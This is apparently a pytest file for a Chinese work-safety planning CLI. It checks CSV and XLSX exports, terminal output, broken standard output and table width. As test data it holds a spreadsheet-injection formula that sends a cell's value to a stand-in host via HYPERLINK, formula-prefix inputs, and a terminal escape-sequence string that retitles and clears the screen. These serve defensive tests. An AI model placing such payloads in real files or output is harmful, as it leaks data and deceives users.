"""What the tool writes, through the public CLI: no live spreadsheet formula in any csv or xlsx,
no raw control character from the data on a terminal or in a workbook, a standard output that
cannot take the text (an ASCII or GBK encoding, closed, full, a reader gone) never an internal
error, and the query tables readable at 80 columns (one line per item, IDs and names whole)."""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import pty
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import CASES, REPO
from safety_plan.output.text import CLOSING, display_width

DATA = str(REPO / "data")
DEMO = str(REPO / "examples" / "demo")
FORMULA = '=HYPERLINK("http://x/?d="&A1,"详情")'
_RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture(autouse=True)
def _private_cache(shared_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SAFETY_PLAN_CACHE", str(shared_cache))


def _data_set(tmp_path: Path, title: str, what: str, note: str) -> str:
    """The base case with a measure's title, a duty's text and a report's note replaced."""
    data = tmp_path / "data"
    shutil.copytree(CASES / "base", data)
    for name, old, new in [
        ("measures.yaml", "title: 每季度研究安全生产", f"title: {json.dumps(title, ensure_ascii=False)}"),
        (
            "schedule.yaml",
            "what: 专题研究推进安全生产重大问题",
            f"what: {json.dumps(what, ensure_ascii=False)}",
        ),
        ("progress/2025-06.yaml", "note: 已建成", f"note: {json.dumps(note, ensure_ascii=False)}"),
    ]:
        path = data / name
        text = path.read_text(encoding="utf-8")
        assert old in text
        path.write_text(text.replace(old, new), encoding="utf-8")
    return str(data)


# --- spreadsheet formulas ------------------------------------------------------------------------


def test_no_csv_or_xlsx_the_tool_writes_holds_a_live_formula(tmp_path: Path, run) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    data = _data_set(tmp_path, FORMULA, "-1+1 专题研究", "@SUM(A1:A9) 已建成")
    assert run("--data", data, "check")[0] == 0

    code, out, err = run("--data", data, "export", "matrix")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff"), newline="")))
    assert rows[1][:2] == ["demo-1", "'" + FORMULA]

    code, out, err = run("--data", data, "overdue", "--month", "2025-06", "--format", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff"), newline="")))
    whats = {r[1] for r in rows[1:] if r[0] == "demo-1.meeting"}
    assert whats and all(w.startswith("'-1+1 专题研究") for w in whats)
    assert all(r[4].isdigit() for r in rows[1:])  # 逾期天数 stays a number

    matrix, tasks = tmp_path / "matrix.xlsx", tmp_path / "tasks.xlsx"
    assert run("--data", data, "export", "matrix", "-f", "xlsx", "-o", str(matrix))[0] == 0
    code, _, err = run(
        "--data", data, "tasklist", "-u", "区应急局", "-m", "2025-06", "-f", "xlsx", "-o", str(tasks)
    )
    assert code == 0, err
    cells = [
        c for path in (matrix, tasks) for ws in load_workbook(path) for row in ws.iter_rows() for c in row
    ]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + FORMULA in texts
    assert any(t.startswith("'-1+1 专题研究") for t in texts)
    assert any(t.startswith("'@SUM(A1:A9) 已建成") for t in texts)
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
    numbers = [c.value for c in cells if isinstance(c.value, int | float)]
    assert numbers  # 应完成 / 已完成 and the days stay numbers


# --- control characters ----------------------------------------------------------------------------

HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m"


def test_control_characters_from_the_data_never_come_out_raw(tmp_path: Path, run) -> None:  # type: ignore[no-untyped-def]
    """Whether or not ``check`` refuses them, no output carries them raw and nothing crashes."""
    from openpyxl import load_workbook

    data = _data_set(tmp_path, "风险" + HOSTILE, "专题研究" + HOSTILE, "已建成" + HOSTILE)
    commands = [
        ["check"],
        ["check", "--format", "json"],
        ["check", "--format", "github"],
        *(["overdue", "--month", "2025-06", "--format", f] for f in ("table", "json", "csv", "md")),
        ["show", "demo-1", "--month", "2025-06"],
        ["show", "demo-1.meeting", "--month", "2025-06", "--format", "json"],
        ["list"],
        ["tasklist", "-u", "区应急局", "-m", "2025-06"],
        ["bulletin", "--month", "2025-06"],
        ["gantt", "--month", "2025-06"],
        ["export", "matrix"],
        ["export", "ics"],
    ]
    for args in commands:
        code, out, err = run("--data", data, *args)
        assert code in (0, 1), (args, err)
        assert "Traceback" not in out + err and "internal error" not in err, args
        raw = _RAW_CONTROL.findall(out.replace("\r\n", "\n") + err)
        assert not raw, (args, raw)
    for args in (
        ["export", "matrix", "-f", "xlsx"],
        ["tasklist", "-u", "区应急局", "-m", "2025-06", "-f", "xlsx"],
    ):
        target = tmp_path / f"{args[0]}.xlsx"
        code, _, err = run("--data", data, *args, "-o", str(target))
        assert code in (0, 1), err
        assert "internal error" not in err
        if code == 0:
            values = [c.value for ws in load_workbook(target) for row in ws.iter_rows() for c in row]
            assert not [v for v in values if isinstance(v, str) and _RAW_CONTROL.search(v)]


# --- standard output that cannot take the text ---------------------------------------------------


def _env(cache: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("SAFETY_PLAN_DATA", "COLUMNS", "LANG", "LC_ALL")}
    env.update(SAFETY_PLAN_CACHE=str(cache), NO_COLOR="1", **extra)
    return env


QUERY = [sys.executable, "-m", "safety_plan", "--data", DEMO, "overdue", "--month", "2025-06"]


@pytest.mark.parametrize(
    "setting",
    [{"LC_ALL": "C", "PYTHONUTF8": "0"}, {"PYTHONIOENCODING": "gbk"}, {"PYTHONIOENCODING": "ascii"}],
)
def test_a_pipe_gets_utf8_whatever_the_locale_says(shared_cache: Path, setting: dict[str, str]) -> None:
    for args in (QUERY, [*QUERY[:3], "--help"]) if "ascii" in setting.values() else (QUERY,):
        proc = subprocess.run(args, capture_output=True, env=_env(shared_cache, **setting), timeout=60)
        assert proc.returncode == 0, proc.stderr.decode("utf-8", "replace")
        assert b"Traceback" not in proc.stderr and proc.stderr == b""
        text = proc.stdout.decode("utf-8")  # UTF-8, not GBK nor an error
        assert "逾期" in text or "安全生产" in text


def test_an_ascii_terminal_gets_utf8_and_one_line_saying_what_to_set(shared_cache: Path) -> None:
    leader, follower = pty.openpty()
    try:
        proc = subprocess.run(
            QUERY,
            stdout=follower,
            stderr=subprocess.PIPE,
            env=_env(shared_cache, LC_ALL="C", PYTHONUTF8="0"),
            timeout=60,
        )
        os.close(follower)
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:
                break
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        os.close(leader)
    assert proc.returncode == 0
    assert "逾期未完成事项" in b"".join(chunks).decode("utf-8")
    note = proc.stderr.decode("utf-8").strip().splitlines()
    assert len(note) == 1 and "LC_ALL=C.UTF-8" in note[0]


def test_a_closed_stdout_is_one_line_and_exit_2(shared_cache: Path) -> None:
    proc = subprocess.run(
        ["bash", "-c", 'exec "$@" >&-', "bash", *QUERY],
        capture_output=True,
        env=_env(shared_cache),
        timeout=60,
    )
    assert proc.returncode == 2
    lines = proc.stderr.decode("utf-8").strip().splitlines()
    assert len(lines) == 1 and "standard output is closed" in lines[0]


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full here")
def test_a_full_stdout_is_one_line_and_exit_2(shared_cache: Path) -> None:
    for args in (QUERY, [*QUERY[:3], "--help"]):
        with open("/dev/full", "w") as full:
            proc = subprocess.run(
                args, stdout=full, stderr=subprocess.PIPE, env=_env(shared_cache), timeout=60
            )
        assert proc.returncode == 2, args
        lines = proc.stderr.decode("utf-8").strip().splitlines()
        assert len(lines) == 1 and "No space left on device" in lines[0], lines


def test_a_reader_that_goes_away_ends_it_quietly(shared_cache: Path) -> None:
    script = '"$@" | head -c 10 > /dev/null; echo "status=${PIPESTATUS[0]}"'
    args = [*QUERY[:4], DATA, "overdue", "--month", "2025-06", "--format", "json"]  # 160 kB: outruns the pipe
    proc = subprocess.run(
        ["bash", "-c", script, "bash", *args], capture_output=True, env=_env(shared_cache), timeout=60
    )
    assert proc.stderr == b"", proc.stderr.decode("utf-8", "replace")
    assert proc.stdout.decode().strip() in ("status=0", "status=141")


@pytest.mark.parametrize("args", [["--help"], ["overdue", "--help"], [], ["export", "ics", "--help"]])
def test_help_into_a_reader_gone_away_ends_it_quietly_too(shared_cache: Path, args: list[str]) -> None:
    """Click's and Rich's help (``safety-plan --help | head -1``) exit 141 like a command's output."""
    reader, writer = os.pipe()
    os.close(reader)  # gone before the first byte: every write fails, whatever the timing
    try:
        proc = subprocess.run(
            [*QUERY[:3], *args], stdout=writer, stderr=subprocess.PIPE, env=_env(shared_cache), timeout=60
        )
    finally:
        os.close(writer)
    assert proc.returncode == 141, proc.stderr.decode("utf-8", "replace")
    assert proc.stderr == b""


# --- the query tables at 80 columns ---------------------------------------------------------------


def test_overdue_at_80_columns_is_one_line_per_item_ids_and_units_whole(run) -> None:  # type: ignore[no-untyped-def]
    code, out, err = run("--data", DATA, "overdue", "--month", "2025-06", "--format", "json")
    assert code == 0, err
    items = json.loads(out)["items"]
    code, out, err = run("--data", DATA, "overdue", "--month", "2025-06")  # COLUMNS=80 (conftest)
    assert code == 0, err
    lines = out.splitlines()
    assert len(lines) < len(items) + 10  # not 2,660
    rows = lines[lines.index(next(line for line in lines if line.startswith("─"))) + 1 :][: len(items)]
    for item, line in zip(items, rows, strict=True):
        assert line.startswith(item["ref"] + " ") and f"  {item['unit']}  " in line, line
    for line in lines:
        assert display_width(line) <= 80 and line == line.rstrip()
        assert not line or line[0] not in CLOSING


@pytest.mark.parametrize(
    "args",
    [
        ["overdue", "--month", "2025-06"],
        ["due", "--month", "2025-06"],
        ["status", "--month", "2025-06"],
        ["units", "--month", "2025-06"],
        ["list"],
        ["owners", "城桥镇"],
        ["owners", "--measure", "m81-62"],
        ["show", "m81-62", "--month", "2025-06"],
        ["show", "区应急局", "--month", "2025-06"],
    ],
)
@pytest.mark.parametrize("columns", ["60", "80", "132"])
def test_every_query_table_fits_and_keeps_names_whole(
    run, monkeypatch, args: list[str], columns: str
) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("COLUMNS", columns)
    code, out, err = run("--data", DATA, *args)
    assert code == 0, err
    for line in out.splitlines():
        assert line == line.rstrip(), repr(line)
        assert not line or line[0] not in CLOSING, line
        if args[0] != "units":  # 7 columns of short values: never cut, so wider than 60
            assert display_width(line) <= int(columns), line
    code, payload, _ = run("--data", DATA, "units", "--month", "2025-06", "--format", "json")
    names = {u["id"] for u in json.loads(payload)}
    if args[:2] == ["show", "区应急局"] and columns == "60":
        return  # its group 区建设管理委等安委会成员单位 (28 columns) is wider than the text column (24)
    lines = out.splitlines()
    for line, following in itertools.pairwise(lines):
        for name in names:  # a name cut at a line end would continue on the next line
            for cut in range(2, len(name)):
                head, tail = name[:cut], name[cut:]
                assert not (line.endswith(head) and following.lstrip().startswith(tail)), (
                    name,
                    line,
                    following,
                )


def test_a_piped_table_honours_columns(shared_cache: Path) -> None:
    env = _env(shared_cache, COLUMNS="150")
    wide = subprocess.run(QUERY, capture_output=True, env=env, timeout=60).stdout.decode("utf-8")
    assert max(display_width(line) for line in wide.splitlines()) > 80
    assert max(display_width(line) for line in wide.splitlines()) <= 150
    # Without COLUMNS, 80: test_cli_queries.py::test_table_fits_80_columns_when_piped.
